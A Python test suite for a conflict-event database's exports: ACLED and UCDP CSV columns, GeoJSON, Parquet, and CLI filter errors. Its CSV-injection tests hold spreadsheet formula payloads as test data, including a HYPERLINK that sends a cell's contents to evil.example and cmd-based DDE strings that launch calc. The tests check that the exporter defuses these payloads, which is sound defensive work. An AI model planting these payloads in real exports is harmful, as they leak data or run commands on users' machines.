"""Exports: ACLED and UCDP column sets, GeoJSON per RFC 7946, Parquet round trip, CLI.

The loading tests read each export the way users do: pyarrow and pandas (both in the test extra) with
each codebook's column list, and the GeoJSON through the ``geojson`` package's validator.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from sitrep.cli import main
from sitrep.export.acled import COLUMNS as ACLED
from sitrep.export.acled import acled_row
from sitrep.export.ucdp import COLUMNS as UCDP
from sitrep.export.writers import csv_cell
from sitrep.store import Store
from sitrep.reconcile.across import Incidents
from store_fixtures import ZEINAB, extraction, incident

#: ACLED's export, as its codebook lists the columns (2023 column changes; 31 columns)
ACLED_CODEBOOK = ["event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
                  "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2",
                  "interaction", "civilian_targeting", "iso", "region", "country", "admin1", "admin2", "admin3",
                  "location", "latitude", "longitude", "geo_precision", "source", "source_scale", "notes",
                  "fatalities", "tags", "timestamp"]
ACLED_EXTRAS = ["fatalities_low", "fatalities_best", "fatalities_high", "injuries_low", "injuries_best",
                "injuries_high", "cameo"]
#: UCDP GED's 49 columns, in the codebook's order
UCDP_CODEBOOK = ["id", "relid", "year", "active_year", "code_status", "type_of_violence", "conflict_dset_id",
                 "conflict_new_id", "conflict_name", "dyad_dset_id", "dyad_new_id", "dyad_name", "side_a_dset_id",
                 "side_a_new_id", "side_a", "side_b_dset_id", "side_b_new_id", "side_b", "number_of_sources",
                 "source_article", "source_office", "source_date", "source_headline", "source_original", "where_prec",
                 "where_coordinates", "where_description", "adm_1", "adm_2", "latitude", "longitude", "geom_wkt",
                 "priogrid_gid", "country", "country_id", "region", "event_clarity", "date_prec", "date_start",
                 "date_end", "deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown", "best", "high", "low",
                 "gwnoa", "gwnob"]


def _db(tmp_path):
    path = tmp_path / "x.db"
    with Store.open(path) as s:
        # three different stories (the fixture's template texts share 6 of 7 words: read as one story)
        Incidents(s).add(extraction("a", "Twin car bombs tore through a busy Homs district as a second blast hit a shrine town.",
                         incidents=[incident(killed=25, high=57, injured=39), incident(place=ZEINAB, killed=83)]))
        Incidents(s).add(extraction("b", "Days later the monitor said the toll from the Homs bombings had risen.", published="2016-02-24",
                         incidents=[incident(killed=64)]))
        Incidents(s).add(extraction("c", "A shopkeeper was stabbed to death after an argument over unpaid rent, relatives said.",
                         incidents=[incident(place={}, killed=1, sub="Attack", perpetrator=None)]))
    return str(path)


def _run(capsys, *argv):
    assert main(list(argv)) == 0
    return capsys.readouterr().out


def test_acled_row_columns():
    row = acled_row(incident(killed=25, high=57), timestamp=1456099200)
    assert list(row) == list(ACLED) == ACLED_CODEBOOK + ACLED_EXTRAS
    assert row["fatalities"] == 25 and row["iso"] == 760 and row["event_id_cnty"].startswith("SYR")
    assert (row["disorder_type"], row["region"], row["timestamp"]) == ("Political violence", "Middle East", 1456099200)
    assert (row["inter1"], row["interaction"]) == ("Rebel group", "Rebel group only")  # Islamic State, from the actor table


def test_ucdp_columns_follow_the_ged_codebook():
    assert list(UCDP) == UCDP_CODEBOOK + ["event_type", "sub_event_type"]


def test_csv_exports_have_the_column_sets(tmp_path, capsys):
    db = _db(tmp_path)
    text = _run(capsys, "export", "--db", db, "--format", "acled")
    assert next(csv.reader(io.StringIO(text))) == ACLED_CODEBOOK + ACLED_EXTRAS
    acled = list(csv.DictReader(io.StringIO(text)))
    assert len(acled) == 3 and len({r["timestamp"] for r in acled}) == 1  # one export time
    text = _run(capsys, "export", "--db", db, "--format", "ucdp")
    assert next(csv.reader(io.StringIO(text)))[:49] == UCDP_CODEBOOK
    ucdp = list(csv.DictReader(io.StringIO(text)))
    homs = next(r for r in ucdp if r["where_coordinates"] == "Homs")
    assert (homs["low"], homs["best"], homs["high"], homs["number_of_sources"]) == ("25", "64", "64", "2")
    assert len(list(csv.DictReader(io.StringIO(_run(capsys, "export", "--db", db, "-f", "acled", "--min-fatalities", "80"))))) == 1


def test_geojson_follows_rfc7946(tmp_path, capsys):
    doc = json.loads(_run(capsys, "export", "--db", _db(tmp_path), "--format", "geojson"))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert len(doc["features"]) == 3
    for f in doc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        g = f["geometry"]
        if g is None:
            continue
        assert g["type"] == "Point" and len(g["coordinates"]) == 2
        lon, lat = g["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert (lat, lon) == (f["properties"]["latitude"], f["properties"]["longitude"])  # [lon, lat] order
    assert sum(f["geometry"] is None for f in doc["features"]) == 1


def test_jsonl_parquet_and_table(tmp_path, capsys):
    db = _db(tmp_path)
    lines = [json.loads(x) for x in _run(capsys, "export", "--db", db, "-f", "jsonl").splitlines()]
    homs = next(x for x in lines if x["location"] and x["location"]["name"] == "Homs")
    assert homs["n_sources"] == 2 and [v["min"] for v in homs["revisions"] if v["kind"] == "killed"] == [25, 64]
    assert main(["export", "--db", db, "-f", "parquet", "-o", str(tmp_path / "x.parquet")]) == 0
    table = pq.read_table(tmp_path / "x.parquet")
    assert table.num_rows == 3 and table.column_names[:38] == ACLED_CODEBOOK + ACLED_EXTRAS
    assert "incident_json" in table.column_names
    out = _run(capsys, "export", "--db", db, "-f", "table")
    assert "Homs" in out and "25-64" in out
    assert main(["export", "--db", str(tmp_path / "none.db")]) == 5


# -- formula injection (OWASP "CSV injection"): a cell a spreadsheet would run is quoted ---------------

MOPTI = dict(name="Mopti", admin1="Mopti", country="Mali", country_code="ML", geonameid=2453348, latitude=14.4843,
             longitude=-4.1827)


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?x="&A1, "click")', '\'=HYPERLINK("http://evil.example/?x="&A1, "click")'),
    ("+972 2 555 0100 said the ministry", "'+972 2 555 0100 said the ministry"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Reuters; AP", "Reuters; AP"),
    ("killed 5 people -- police", "killed 5 people -- police"),
    ("", ""),
    (-4.1827, -4.1827),  # numbers stay numbers, negative ones too
    (-1, -1),
    (None, None),
])
def test_csv_cell_quotes_what_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


def _formula_db(tmp_path):
    path = tmp_path / "f.db"
    with Store.open(path) as s:
        Incidents(s).add(extraction("evil", outlet="=HYPERLINK(\"http://evil.example\",\"Reuters\")",
                         incidents=[incident(place=MOPTI, killed=12, quote="@SUM(1+1) said 12 people were killed",
                                             perpetrator="-JNIM")]))
    return str(path)


def _no_formula_cells(rows):
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start like a formula


@pytest.mark.parametrize("fmt", ["acled", "ucdp"])
def test_cli_csv_exports_quote_formula_cells(tmp_path, capsys, fmt):
    rows = list(csv.reader(io.StringIO(_run(capsys, "export", "--db", _formula_db(tmp_path), "--format", fmt))))
    _no_formula_cells(rows)
    cells = [c for c in rows[1] if c.startswith("'")]
    assert any(c.startswith("'=HYPERLINK(") for c in cells), rows[1]
    if fmt == "acled":
        record = dict(zip(rows[0], rows[1]))
        assert record["notes"].startswith("'@SUM(1+1)") and record["actor1"] == "'-JNIM"
        assert float(record["longitude"]) == pytest.approx(-4.1827)


def test_api_csv_stream_quotes_formula_cells(tmp_path):
    from sitrep.serve.exports import _csv

    with Store.open(_formula_db(tmp_path)) as s:
        found, _ = s.query_incidents()
    rows = list(csv.reader(io.StringIO("".join(_csv(iter(found))))))
    _no_formula_cells(rows)
    record = dict(zip(rows[0], rows[1]))
    assert record["source"].startswith("'=HYPERLINK(") and record["actor1"] == "'-JNIM"
    assert float(record["longitude"]) == pytest.approx(-4.1827)


# issue 8 item 7: `sitrep export --since yesterday` printed an empty result and exited 0
@pytest.mark.parametrize("argv, param", [
    (["--since", "yesterday"], "since"),
    (["--until", "2016-02-30"], "until"),
    (["--since", "2016-03-01", "--until", "2016-02-01"], "until"),
    (["--country", "Narnia"], "country"),
    (["--type", "Bombing"], "event_type"),
    (["--event-type", "Battles", "--sub-type", "Air/drone strike"], "sub_event_type"),
    (["--min-fatalities", "-1"], "min_fatalities"),
    (["--min-fatalities", "many"], "min_fatalities"),
    (["--bbox", "10,0,5,1"], "bbox"),
    (["--bbox", "west"], "bbox"),
    (["--actor", " "], "actor"),
    (["--q", '")(*'], "q"),
])
def test_bad_filters_are_one_line_and_exit_2_with_the_apis_message(tmp_path, capsys, argv, param):
    from fastapi.testclient import TestClient

    from serve_fixtures import make_app

    db = _db(tmp_path)
    assert main(["export", "--db", db, *argv]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    flags = dict(zip(argv[::2], argv[1::2]))
    names = {"--type": "event_type", "--event-type": "event_type", "--sub-type": "sub_event_type",
             "--min-fatalities": "min_fatalities"}
    query = {names.get(k, k.lstrip("-")): v for k, v in flags.items()}
    api = TestClient(make_app()).get("/api/incidents", params=query).json()["error"]
    assert api["details"][0]["param"] == param
    assert err.strip() == f"sitrep: error: {api['message']}"  # one validation, the same words


def test_good_filters_still_select(tmp_path, capsys):
    db = _db(tmp_path)
    rows = _run(capsys, "export", "--db", db, "-f", "jsonl", "--country", "sy", "--since", "2016-01-01",
                "--bbox", "36.5,34.5,37,35", "--q", "bomb*")
    assert len(rows.splitlines()) == 1


# -- issue 12 item 6: each export loads unchanged in the tools users have -------------------------

def _export(tmp_path, capsys, fmt):
    db = _db(tmp_path)
    if fmt == "parquet":
        assert main(["export", "--db", db, "-f", "parquet", "-o", str(tmp_path / "x.parquet")]) == 0
        return tmp_path / "x.parquet"
    path = tmp_path / f"x.{fmt}"
    path.write_text(_run(capsys, "export", "--db", db, "--format", fmt), encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt, columns, types", [
    ("acled", ACLED_CODEBOOK, {"event_date": pa.date32(), "year": pa.int64(), "time_precision": pa.int64(),
                               "iso": pa.int64(), "latitude": pa.float64(), "fatalities": pa.int64(),
                               "timestamp": pa.int64()}),
    ("ucdp", UCDP_CODEBOOK, {"date_start": pa.date32(), "year": pa.int64(), "best": pa.int64(),
                             "country_id": pa.int64(), "event_clarity": pa.int64()}),
])
def test_csv_reads_in_pyarrow_with_the_codebook_columns(tmp_path, capsys, fmt, columns, types):
    table = pacsv.read_csv(_export(tmp_path, capsys, fmt), convert_options=pacsv.ConvertOptions(include_columns=columns))
    assert table.column_names == columns and table.num_rows == 3
    for name, kind in types.items():
        assert table.schema.field(name).type == kind, name


def test_acled_csv_reads_in_pandas(tmp_path, capsys):
    import pandas as pd
    frame = pd.read_csv(_export(tmp_path, capsys, "acled"), usecols=ACLED_CODEBOOK, parse_dates=["event_date"])
    assert frame.columns.tolist() == ACLED_CODEBOOK
    for name in ("year", "time_precision", "fatalities", "timestamp"):  # no blanks: ints stay ints
        assert pd.api.types.is_integer_dtype(frame[name]), name
    assert pd.api.types.is_datetime64_any_dtype(frame["event_date"])
    assert pd.api.types.is_float_dtype(frame["latitude"])


def test_ucdp_csv_reads_in_pandas(tmp_path, capsys):
    import pandas as pd
    frame = pd.read_csv(_export(tmp_path, capsys, "ucdp"), usecols=UCDP_CODEBOOK, parse_dates=["date_start", "date_end"])
    assert frame.columns.tolist() == UCDP_CODEBOOK
    for name in ("year", "best", "low", "number_of_sources", "event_clarity"):
        assert pd.api.types.is_integer_dtype(frame[name]), name
    homs = frame[frame["where_coordinates"] == "Homs"].iloc[0]
    assert (homs["country_id"], homs["region"], homs["geom_wkt"]) == (652, "Middle East", "POINT (36.7234 34.7268)")
    assert homs["priogrid_gid"] == 249 * 720 + 433 + 1


def test_parquet_is_typed(tmp_path, capsys):
    table = pq.read_table(_export(tmp_path, capsys, "parquet"))
    schema = table.schema
    for name in ("event_date",):
        assert schema.field(name).type == pa.date32()
    for name in ("year", "iso", "fatalities", "timestamp", "fatalities_best", "n_sources"):
        assert schema.field(name).type == pa.int64(), name
    for name in ("latitude", "longitude"):
        assert schema.field(name).type == pa.float64()
    assert schema.field("toll_may_rise").type == pa.bool_()
    assert schema.field("incident_json").type == pa.string()
    assert set(table.column("event_date").to_pylist()) == {dt.date(2016, 2, 21)}
    assert json.loads(table.column("incident_json")[0].as_py())["id"]


def test_geojson_validates(tmp_path, capsys):
    geojson = pytest.importorskip("geojson")
    doc = geojson.loads(_export(tmp_path, capsys, "geojson").read_text(encoding="utf-8"))
    assert doc.is_valid, doc.errors()
    assert all(f.is_valid for f in doc["features"])
    props = doc["features"][0]["properties"]
    assert set(ACLED_CODEBOOK) <= set(props)
